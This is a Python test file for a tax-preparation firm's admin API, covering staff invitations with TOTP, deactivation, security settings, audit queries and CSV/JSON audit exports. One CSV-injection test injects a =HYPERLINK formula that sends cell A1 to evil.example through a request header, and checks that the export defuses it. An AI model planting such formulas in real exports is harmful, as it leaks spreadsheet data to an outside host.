"""The admin API (spec §14): staff users and invitations, security configuration, audit query and export,
health. Admin only, firm by firm."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import time
import uuid
from datetime import datetime, timedelta, timezone

import pyotp

from tests.foundation.conftest import assert_problem, bearer, sql
from tests.support import api_without_temporal, deliver, outbox_entries

STRONG_PASSWORD = "a long enough passphrase"


def _invitee() -> dict:
    return {"email": f"new-{uuid.uuid4().hex[:10]}@firm.example.com", "full_name": "New Preparer",
            "role": "preparer", "ptin": "P12345678"}


def _iso(moment: datetime) -> str:
    return moment.isoformat().replace("+00:00", "Z")


# ---- users and invitations -----------------------------------------------------------------------------------

async def test_an_invited_user_sets_a_password_enrols_totp_and_signs_in(tp, admin):
    invitee = _invitee()
    response = await tp.http.post("/v1/admin/users", json=invitee, headers=admin)
    assert response.status_code == 201, response.text
    user = response.json()["data"]
    assert {k: user[k] for k in ("email", "full_name", "role", "ptin")} == invitee
    assert user["is_active"] is True and user["mfa_enrolled"] is False

    # Before accepting, the account has no password to sign in with.
    assert_problem(await tp.http.post("/v1/auth/login", json={"email": invitee["email"],
                                                               "password": STRONG_PASSWORD}), 401)
    mail = await tp.wait_for_mail(invitee["email"])
    token = re.search(r"Token: (\S+)", mail["text"]).group(1)

    weak = await tp.http.post("/v1/auth/invitations/accept", json={"token": token, "password": "short"})
    assert assert_problem(weak, 400, "validation")["errors"][0]["field"] == "password"
    accepted = await tp.http.post("/v1/auth/invitations/accept", json={"token": token, "password": STRONG_PASSWORD})
    assert accepted.status_code == 200, accepted.text
    enrolment = accepted.json()["data"]
    assert enrolment["id"] == user["id"] and enrolment["email"] == invitee["email"]
    assert enrolment["otpauth_uri"].startswith("otpauth://totp/") and enrolment["totp_secret"] in enrolment[
        "otpauth_uri"]
    assert_problem(await tp.http.post("/v1/auth/invitations/accept",
                                      json={"token": token, "password": "another long passphrase"}), 401)

    login = await tp.http.post("/v1/auth/login", json={"email": invitee["email"], "password": STRONG_PASSWORD})
    verified = await tp.http.post("/v1/auth/mfa/verify", json={
        "mfa_token": login.json()["mfa_token"], "code": pyotp.TOTP(enrolment["totp_secret"]).now()})
    assert verified.status_code == 200, verified.text
    assert (await tp.http.get("/v1/clients", headers=bearer(verified.json()["access_token"]))).status_code == 200
    assert (await tp.http.get(f"/v1/admin/users/{user['id']}", headers=admin)).json()["data"]["mfa_enrolled"] is True


async def test_bad_invitations_are_refused(tp, admin):
    invitee = _invitee()
    assert (await tp.http.post("/v1/admin/users", json=invitee, headers=admin)).status_code == 201
    duplicate = await tp.http.post("/v1/admin/users", json={**invitee, "email": invitee["email"].upper()},
                                   headers=admin)
    assert assert_problem(duplicate, 409, "conflict")["errors"][0]["field"] == "email"
    for body in ({**_invitee(), "role": "client"}, {**_invitee(), "role": "superuser"}, {**_invitee(), "ptin": "123"},
                 {**_invitee(), "email": "nope"}, {**_invitee(), "is_admin": True}, {"email": "a@b.com"},
                 {**_invitee(), "email": "jürgen@exämple.com"}):  # not mailable without SMTPUTF8
        assert_problem(await tp.http.post("/v1/admin/users", json=body, headers=admin), 400, "validation")
    assert_problem(await tp.http.post("/v1/auth/invitations/accept",
                                      json={"token": "never-issued", "password": STRONG_PASSWORD}), 401)
    users = (await tp.http.get("/v1/admin/users", headers=admin)).json()
    assert users["pagination"]["total_count"] == 2  # the admin and the first invitee


async def test_user_list_get_and_update(tp, firm, admin):
    preparer_id, _ = await tp.staff_session(firm, "preparer")
    reviewer_id, _ = await tp.staff_session(firm, "reviewer")
    outsider_id, _ = await tp.staff_session(await tp.new_firm(), "preparer")

    listed = (await tp.http.get("/v1/admin/users", headers=admin)).json()
    assert listed["pagination"]["total_count"] == 3
    assert str(outsider_id) not in {u["id"] for u in listed["data"]}
    preparers = (await tp.http.get("/v1/admin/users", headers=admin, params={"role": "preparer"})).json()["data"]
    assert [u["id"] for u in preparers] == [str(preparer_id)]
    assert_problem(await tp.http.get("/v1/admin/users", headers=admin, params={"role": "client"}), 400)
    assert_problem(await tp.http.get(f"/v1/admin/users/{outsider_id}", headers=admin), 404)
    assert_problem(await tp.http.patch(f"/v1/admin/users/{outsider_id}", json={"full_name": "X"}, headers=admin), 404)
    assert_problem(await tp.http.patch(f"/v1/admin/users/{reviewer_id}", json={"full_name": "Rita\nReviewer"},
                                       headers=admin), 400, "validation")  # a name is one line

    response = await tp.http.patch(f"/v1/admin/users/{reviewer_id}", json={"full_name": "Rita Reviewer",
                                                                           "ptin": "P87654321"}, headers=admin)
    assert response.status_code == 200, response.text
    assert response.json()["data"]["full_name"] == "Rita Reviewer" and response.json()["data"]["ptin"] == "P87654321"
    taken = (await tp.http.get(f"/v1/admin/users/{preparer_id}", headers=admin)).json()["data"]["email"]
    assert_problem(await tp.http.patch(f"/v1/admin/users/{reviewer_id}", json={"email": taken}, headers=admin), 409)
    for body in ({}, {"role": None}, {"role": "client"}, {"is_active": False}, {"email": "jürgen@example.com"}):
        assert_problem(await tp.http.patch(f"/v1/admin/users/{reviewer_id}", json=body, headers=admin), 400)


async def test_a_role_change_ends_the_users_sessions(tp, firm, admin):
    reviewer_id, reviewer = await tp.staff_session(firm, "reviewer")
    assert (await tp.http.get("/v1/clients", headers=reviewer)).status_code == 200
    response = await tp.http.patch(f"/v1/admin/users/{reviewer_id}", json={"role": "preparer"}, headers=admin)
    assert response.json()["data"]["role"] == "preparer"
    assert_problem(await tp.http.get("/v1/clients", headers=reviewer), 401)


async def test_deactivation_takes_effect_at_once(tp, firm, admin):
    user = await tp.new_user(firm, "ea_cpa")
    tokens = await tp.login(user)
    headers = bearer(tokens["access_token"])
    assert (await tp.http.get("/v1/clients", headers=headers)).status_code == 200

    response = await tp.http.post(f"/v1/admin/users/{user.id}/deactivate", headers=admin)
    assert response.status_code == 200 and response.json()["data"]["is_active"] is False
    assert_problem(await tp.http.get("/v1/clients", headers=headers), 401)
    assert_problem(await tp.http.post("/v1/auth/refresh", json={"refresh_token": tokens["refresh_token"]}), 401)
    refused = assert_problem(await tp.http.post("/v1/auth/login", json={"email": user.email,
                                                                         "password": user.password}), 401)
    assert refused["detail"] == "Invalid email or password"
    inactive = (await tp.http.get("/v1/admin/users", headers=admin, params={"is_active": "false"})).json()["data"]
    assert [u["id"] for u in inactive] == [str(user.id)]

    # An admin cannot lock themselves out, nor reach another firm's staff.
    me = (await tp.http.get("/v1/admin/users", headers=admin, params={"role": "admin"})).json()["data"][0]
    assert_problem(await tp.http.post(f"/v1/admin/users/{me['id']}/deactivate", headers=admin), 409)
    outsider_id, outsider = await tp.staff_session(await tp.new_firm(), "preparer")
    assert_problem(await tp.http.post(f"/v1/admin/users/{outsider_id}/deactivate", headers=admin), 404)
    assert (await tp.http.get("/v1/clients", headers=outsider)).status_code == 200


async def test_admin_endpoints_refuse_other_roles(tp, firm):
    _, admin = await tp.staff_session(firm, "admin")
    user_id, _ = await tp.staff_session(firm, "preparer")
    calls = [
        ("GET", "/v1/admin/users", None), ("POST", "/v1/admin/users", _invitee()),
        ("GET", f"/v1/admin/users/{user_id}", None), ("PATCH", f"/v1/admin/users/{user_id}", {"full_name": "X"}),
        ("POST", f"/v1/admin/users/{user_id}/deactivate", None), ("GET", "/v1/admin/config", None),
        ("PATCH", "/v1/admin/config", {"mfa_required": False}), ("GET", "/v1/admin/audit", None),
        ("POST", "/v1/admin/audit/export", {"start_date": "2024-01-01T00:00:00Z", "end_date": "2024-12-31T00:00:00Z"}),
        ("GET", f"/v1/admin/audit/exports/{uuid.uuid4()}", None), ("GET", "/v1/admin/health/detailed", None),
    ]
    for role in ("ea_cpa", "reviewer", "preparer"):
        _, headers = await tp.staff_session(firm, role)
        for method, url, body in calls:
            response = await tp.http.request(method, url, json=body, headers=headers)
            assert_problem(response, 403, "forbidden")
    for method, url, body in calls:
        assert_problem(await tp.http.request(method, url, json=body), 401)
    config = (await tp.http.get("/v1/admin/config", headers=admin)).json()["data"]
    assert config["mfa_required"] is True
    assert (await tp.http.get(f"/v1/admin/users/{user_id}", headers=admin)).json()["data"]["full_name"] != "X"


# ---- configuration -------------------------------------------------------------------------------------------

async def test_config_defaults_updates_and_bounds(tp, admin):
    response = await tp.http.get("/v1/admin/config", headers=admin)
    assert response.status_code == 200
    assert {k: v for k, v in response.json()["data"].items() if k != "updated_at"} == {
        "session_timeout_minutes": 30, "mfa_required": True, "failed_login_lockout_attempts": 5,
        "engagement_required_before_prep": False}
    changed = await tp.http.patch("/v1/admin/config", json={"session_timeout_minutes": 60,
                                                             "failed_login_lockout_attempts": 10}, headers=admin)
    assert changed.status_code == 200
    assert changed.json()["data"]["session_timeout_minutes"] == 60
    assert changed.json()["data"]["failed_login_lockout_attempts"] == 10
    assert changed.json()["data"]["mfa_required"] is True
    for body in ({}, {"session_timeout_minutes": 0}, {"session_timeout_minutes": 100000},
                 {"failed_login_lockout_attempts": 1}, {"mfa_required": None}, {"mfa_required": "sometimes"},
                 {"session_timeout_minutes": "thirty"}, {"password_min_length": 4}):
        assert_problem(await tp.http.patch("/v1/admin/config", json=body, headers=admin), 400, "validation")
    after = (await tp.http.get("/v1/admin/config", headers=admin)).json()["data"]
    assert after["session_timeout_minutes"] == 60 and after["failed_login_lockout_attempts"] == 10
    # Each firm has its own configuration.
    other = (await tp.staff_session(await tp.new_firm(), "admin"))[1]
    assert (await tp.http.get("/v1/admin/config", headers=other)).json()["data"]["session_timeout_minutes"] == 30


# ---- audit query ---------------------------------------------------------------------------------------------

async def test_audit_query_filters_and_orders_newest_first(tp, firm, admin):
    preparer_id, preparer = await tp.staff_session(firm, "preparer")
    mine = await tp.new_client(preparer)
    theirs = await tp.new_client(admin)
    await tp.http.get(f"/v1/clients/{theirs['id']}", headers=admin)
    outsider = (await tp.staff_session(await tp.new_firm(), "admin"))[1]
    await tp.new_client(outsider)

    everything = (await tp.http.get("/v1/admin/audit", headers=admin, params={"limit": 100})).json()
    stamps = [e["occurred_at"] for e in everything["data"]]
    assert stamps == sorted(stamps, reverse=True)
    assert {e["event_type"] for e in everything["data"]} >= {"client.create", "client.read_pii"}
    assert all(e["client_id"] in (None, mine["id"], theirs["id"]) for e in everything["data"])

    async def query(**params):
        response = await tp.http.get("/v1/admin/audit", headers=admin, params=params)
        assert response.status_code == 200, response.text
        return response.json()["data"]

    by_preparer = await query(user_id=str(preparer_id))
    assert [(e["event_type"], e["client_id"]) for e in by_preparer] == [("client.create", mine["id"])]
    assert {e["event_type"] for e in await query(client_id=theirs["id"])} == {"client.create", "client.read_pii"}
    assert [e["client_id"] for e in await query(event_type="client.read_pii")] == [theirs["id"]]
    now = datetime.now(timezone.utc)
    assert await query(end_date=_iso(now - timedelta(days=1))) == []
    assert len(await query(start_date=_iso(now - timedelta(hours=1)), end_date=_iso(now + timedelta(hours=1)))) == len(
        everything["data"])
    fields = await query(fields="event_type", limit=1)
    assert set(fields[0]) == {"id", "event_type"}
    for params in ({"start_date": "yesterday"}, {"user_id": "bob"}, {"sort": "event_type"}, {"actor": "x"}):
        assert_problem(await tp.http.get("/v1/admin/audit", headers=admin, params=params), 400, "validation")


# ---- audit export --------------------------------------------------------------------------------------------

async def _finished_export(tp, admin, body: dict) -> dict:
    response = await tp.http.post("/v1/admin/audit/export", json=body, headers=admin)
    assert response.status_code == 202, response.text
    accepted = response.json()["data"]
    assert accepted["status"] == "processing" and isinstance(accepted["estimated_size_mb"], (int, float))
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        export = (await tp.http.get(f"/v1/admin/audit/exports/{accepted['export_id']}", headers=admin)).json()["data"]
        if export["status"] != "processing":
            assert export["status"] == "completed", export
            return export
        await asyncio.sleep(0.2)
    raise AssertionError("the export did not finish")


async def test_audit_export_writes_json_to_s3(tp, admin):
    client = await tp.new_client(admin, ssn="123-45-6789")
    await tp.http.get(f"/v1/clients/{client['id']}", headers=admin)
    outsider = (await tp.staff_session(await tp.new_firm(), "admin"))[1]
    await tp.new_client(outsider)
    now = datetime.now(timezone.utc)
    export = await _finished_export(tp, admin, {"start_date": _iso(now - timedelta(hours=1)),
                                                "end_date": _iso(now + timedelta(hours=1)), "format": "json"})
    # The client's creation and read, and the export request itself (an audited event too).
    assert export["format"] == "json" and export["row_count"] == 3 and export["completed_at"]

    download = await tp.http.get(export["download_url"], headers=admin)
    assert download.status_code == 200
    assert download.headers["content-type"].startswith("application/json")
    assert int(download.headers["content-length"]) == len(download.content) == export["size_bytes"]
    rows = json.loads(download.content)
    assert [r["event_type"] for r in sorted(rows, key=lambda r: r["id"])] == [
        "client.create", "client.read_pii", "audit.export"]
    assert {r["client_id"] for r in rows} == {client["id"], None}
    assert "123-45-6789" not in download.text and "123456789" not in download.text

    # Another firm's admin cannot see or fetch it.
    assert_problem(await tp.http.get(f"/v1/admin/audit/exports/{export['export_id']}", headers=outsider), 404)
    assert_problem(await tp.http.get(export["download_url"], headers=outsider), 404)


async def test_audit_export_writes_filtered_csv(tp, admin):
    first = await tp.new_client(admin)
    second = await tp.new_client(admin)
    await tp.http.get(f"/v1/clients/{second['id']}", headers=admin)
    now = datetime.now(timezone.utc)
    export = await _finished_export(tp, admin, {
        "start_date": _iso(now - timedelta(hours=1)), "end_date": _iso(now + timedelta(hours=1)), "format": "csv",
        "filters": {"client_id": second["id"]}})
    download = await tp.http.get(export["download_url"], headers=admin)
    assert download.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(download.text)))
    assert export["row_count"] == len(rows) == 2
    assert {r["client_id"] for r in rows} == {second["id"]} and first["id"] not in download.text
    assert {"id", "occurred_at", "user_id", "actor_role", "event_type", "resource_type", "resource_id",
            "client_id", "correlation_id", "ip_address"} <= set(rows[0])


async def test_a_csv_export_opens_caller_text_as_text_not_as_a_formula(tp, admin):
    """CSV injection (issue 13, low): a correlation id is the caller's text, and it reaches the audit log."""
    client = await tp.new_client(admin)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    await tp.http.get(f"/v1/clients/{client['id']}", headers={**admin, "X-Correlation-ID": formula})
    now = datetime.now(timezone.utc)
    export = await _finished_export(tp, admin, {
        "start_date": _iso(now - timedelta(hours=1)), "end_date": _iso(now + timedelta(hours=1)), "format": "csv",
        "filters": {"client_id": client["id"]}})
    rows = list(csv.DictReader(io.StringIO((await tp.http.get(export["download_url"], headers=admin)).text)))
    correlation_ids = {r["correlation_id"] for r in rows if r["correlation_id"]}
    assert correlation_ids == {"'" + formula.replace(" ", "")}  # the middleware keeps printable ASCII only
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values() if cell)


async def test_bad_export_requests(tp, admin):
    now = _iso(datetime.now(timezone.utc))
    for body in ({"start_date": now, "end_date": "2000-01-01T00:00:00Z"},
                 {"start_date": now, "end_date": now, "format": "xml"},
                 {"start_date": "soon", "end_date": now},
                 {"start_date": -1, "end_date": now}, {"start_date": 1.5, "end_date": now},  # not seconds since 1970
                 {"start_date": "1700000000", "end_date": now},
                 {"start_date": now, "end_date": now, "filters": {"client_id": "abc"}},
                 {"start_date": now, "end_date": now, "filters": {"ssn": "123"}},
                 {"end_date": now}):
        assert_problem(await tp.http.post("/v1/admin/audit/export", json=body, headers=admin), 400, "validation")
    assert_problem(await tp.http.get(f"/v1/admin/audit/exports/{uuid.uuid4()}", headers=admin), 404)
    assert_problem(await tp.http.get(f"/v1/admin/audit/exports/{uuid.uuid4()}/download", headers=admin), 404)


# ---- health --------------------------------------------------------------------------------------------------

async def test_health_needs_no_authentication(tp):
    response = await tp.http.get("/v1/health")
    assert response.status_code == 200
    body = response.json()
    assert body["status"] == "healthy" and body["version"] == tp.settings.version
    assert re.match(r"^\d{4}-\d\d-\d\dT.*Z$", body["timestamp"])


async def test_detailed_health_probes_every_component(tp, admin):
    response = await tp.http.get("/v1/admin/health/detailed", headers=admin)
    assert response.status_code == 200, response.text
    body = response.json()
    for name in ("database", "temporal", "s3", "mail"):
        assert body["components"][name]["status"] == "healthy", body
        assert body["components"][name]["latency_ms"] >= 0
    # More in tests/operations/test_health.py (the payments sandbox, components not configured).


async def test_audit_export_bounds_without_offset_are_utc_and_extreme_years_are_fine(tp, admin):
    client = await tp.new_client(admin)
    await tp.http.get(f"/v1/clients/{client['id']}", headers=admin)
    now = datetime.now(timezone.utc)
    naive_start = (now - timedelta(hours=1)).replace(tzinfo=None).isoformat()
    export = await _finished_export(tp, admin, {"start_date": naive_start, "end_date": _iso(now + timedelta(hours=1)),
                                                "filters": {"client_id": client["id"]}})
    assert export["start_date"].startswith(naive_start[:19]) and export["row_count"] == 2  # create, read
    for start, end in (("0001-01-01", "9999-12-31"), ("0001-01-01T00:00:00Z", "9999-12-31T23:59:59Z")):
        export = await _finished_export(tp, admin, {"start_date": start, "end_date": end,
                                                    "filters": {"client_id": client["id"]}})
        assert export["row_count"] == 2
    assert_problem(await tp.http.post("/v1/admin/audit/export", headers=admin,
                                      json={"start_date": "2025-01-01", "end_date": "2024-01-01T00:00:00Z"}), 400)
    # Before year 1 once in UTC: Postgres would store it, and Python could never read the export back.
    assert_problem(await tp.http.post("/v1/admin/audit/export", headers=admin, json={
        "start_date": "0001-01-01T00:00:00+00:01", "end_date": "2025-01-01T00:00:00Z"}), 400)


async def test_an_export_requested_while_temporal_is_unreachable_runs_once_it_answers(tp, firm, admin):
    """The export and its workflow's start commit together: accepted now, started by the outbox relay later
    (here: its delivery of the entry), never left `processing` for ever."""
    async with api_without_temporal(tp) as cut_off:
        response = await cut_off.post("/v1/admin/audit/export", headers=admin,
                                      json={"start_date": "2024-01-01T00:00:00Z", "end_date": "2025-01-01T00:00:00Z"})
    assert response.status_code == 202, response.text
    export_id = response.json()["data"]["export_id"]
    [entry] = await outbox_entries(tp, export_id)
    assert await deliver(tp, entry.id)
    for _ in range(100):
        [(status,)] = await sql(tp, "SELECT status FROM audit_exports WHERE firm_id = :f", f=firm)
        if status == "completed":
            break
        await asyncio.sleep(0.1)
    assert status == "completed"
